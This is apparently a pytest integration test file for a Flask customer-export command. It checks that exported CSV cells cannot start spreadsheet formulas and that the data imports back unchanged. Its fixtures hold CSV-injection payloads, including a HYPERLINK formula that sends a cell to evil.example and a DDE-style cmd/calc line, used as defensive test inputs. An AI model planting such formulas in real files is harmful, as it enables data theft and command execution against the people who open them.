"""``helpline customers export``: the import's columns out, safe to open in a spreadsheet, and
imported back to the same customers."""

from __future__ import annotations

import csv
import json
import os
from pathlib import Path

import pytest
from flask.testing import FlaskCliRunner

from app.models import Account, ConsentEvent
from tests.integration.customer_files import count, run_import, stored, write_csv

FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"Refund")'
ANA = "ana@example.com,es,gold,1250.5,east,America/Chicago,mobile:M-1;tv:T-2,yes,no"
CUSTOMERS = f"""
phone,name,email,language,tier,lifetime_value,region,timezone,accounts,sms_consent,voice_consent
(202) 555-0101,"{FORMULA.replace('"', '""')}",{ANA}
+44 20 7946 0958,+SUM(1+1),,,,,,,,,
2025550103,-2+3+cmd|' /C calc'!A0,,,,0,,,,no,yes
2025550104,@SUM(A1:A9),,,platinum,,-north,,energy:=E-9,,
2025550105,''=already quoted,,,,,+west,,,,
2025550106,José O'Brien,,,,,,,,,
"""


def run_export(runner: FlaskCliRunner, path: Path, *options: str):
    return runner.invoke(args=["customers", "export", str(path), *options])


def cells(path: Path) -> list[list[str]]:
    """The cells of a CSV file as a spreadsheet would get them (before it reads any formula)."""
    with path.open(encoding="utf-8-sig", newline="") as stream:
        return list(csv.reader(stream))


def test_an_export_imports_back_to_the_same_customers(runner, tmp_path):
    run_import(runner, write_csv(tmp_path, CUSTOMERS))
    before, events, accounts = stored(), count(ConsentEvent), count(Account)
    exported = tmp_path / "export.csv"

    export = run_export(runner, exported)
    again = run_import(runner, exported)

    assert export.exit_code == 0, export.output
    assert export.stdout.strip() == f"exported 6 customers to {exported}"
    assert before["+12025550101"]["name"] == FORMULA  # stored as given, escaped only on export
    assert again.stdout.strip() == "created 0, updated 0, unchanged 6, rejected 0", again.output
    assert stored() == before
    assert (count(ConsentEvent), count(Account)) == (events, accounts)


def test_no_cell_of_an_export_starts_a_spreadsheet_formula(runner, tmp_path):
    run_import(runner, write_csv(tmp_path, CUSTOMERS))
    exported = tmp_path / "export.csv"

    run_export(runner, exported)

    rows = cells(exported)
    assert rows[1][1] == "'" + FORMULA
    assert [row[1] for row in rows[2:6]] == [
        "'+SUM(1+1)",
        "'-2+3+cmd|' /C calc'!A0",
        "'@SUM(A1:A9)",
        "''=already quoted",
    ]
    assert (rows[4][6], rows[4][8], rows[5][6]) == ("'-north", "energy:=E-9", "'+west")
    assert rows[6][1] == "José O'Brien"
    assert not [
        cell for row in rows for cell in row if cell[:1] in ("=", "+", "-", "@", "\t", "\r")
    ]


def test_an_export_is_utf8_with_a_byte_order_mark_and_the_imports_header(runner, tmp_path):
    run_import(runner, write_csv(tmp_path, CUSTOMERS))
    exported = tmp_path / "export.csv"

    run_export(runner, exported)

    data = exported.read_bytes()
    assert data.startswith(b"\xef\xbb\xbfphone,name,email,language,tier,lifetime_value,region,")
    assert "José".encode() in data
    assert cells(exported)[1][2:] == [
        "ana@example.com", "es", "gold", "1250.50", "east", "America/Chicago",
        "mobile:M-1;tv:T-2", "yes", "no",
    ]  # fmt: skip


def test_a_phone_keeps_its_plus_and_country_through_an_export_and_back(runner, tmp_path):
    run_import(runner, write_csv(tmp_path, "phone,name\n+44 20 7946 0958,Claire\n"))
    exported = tmp_path / "export.csv"

    run_export(runner, exported)
    again = run_import(runner, exported, "--region", "US")

    assert cells(exported)[1][0] == "'+442079460958"
    assert "unchanged 1, rejected 0" in again.stdout
    assert list(stored()) == ["+442079460958"]


def test_an_export_of_no_customers_is_a_header_that_imports_as_nothing(runner, tmp_path):
    exported = tmp_path / "export.csv"

    export = run_export(runner, exported, "--json")
    again = run_import(runner, exported)

    assert json.loads(export.stdout) == {"file": str(exported), "exported": 0}
    assert again.exit_code == 0 and "no customer rows after the header" in again.stderr


def test_an_export_that_cannot_be_written_says_so_without_a_traceback(runner, tmp_path):
    run_import(runner, write_csv(tmp_path, CUSTOMERS))
    exported = tmp_path / "missing" / "export.csv"

    result = run_export(runner, exported)

    assert result.exit_code == 1
    assert f"{exported}: cannot write the file: No such file or directory" in result.stderr
    assert result.exception is None or isinstance(result.exception, SystemExit)


@pytest.mark.parametrize("folder", [".", "missing"], ids=["written", "not-written"])
def test_an_export_names_its_file_with_control_characters_and_bad_bytes_escaped(
    runner, tmp_path, folder
):
    exported = tmp_path / folder / os.fsdecode(b"out\xff\x1b[2J\n.csv")

    result = runner.invoke(args=["customers", "export", str(exported)], color=True)

    assert "\x1b" not in result.output and "\udcff" not in result.output
    assert f"{exported.parent}/out\\xff\\x1b[2J\\n.csv" in result.output


def test_an_export_replaces_an_older_file_whole(runner, tmp_path):
    run_import(runner, write_csv(tmp_path, "phone,name\n2025550101,Ana\n"))
    folder = tmp_path / "exports"
    folder.mkdir()
    exported = folder / "export.csv"
    exported.write_text("old,content\n" * 1000)

    run_export(runner, exported)

    assert [row[:2] for row in cells(exported)] == [["phone", "name"], ["'+12025550101", "Ana"]]
    assert [path.name for path in folder.iterdir()] == ["export.csv"]


def test_an_export_of_the_demo_customers_imports_back_unchanged(runner, tmp_path):
    assert runner.invoke(args=["demo", "--customers", "150"]).exit_code == 0
    before = stored()
    exported = tmp_path / "demo.csv"

    run_export(runner, exported)
    again = run_import(runner, exported)

    assert again.stdout.strip() == f"created 0, updated 0, unchanged {len(before)}, rejected 0"
    assert stored() == before
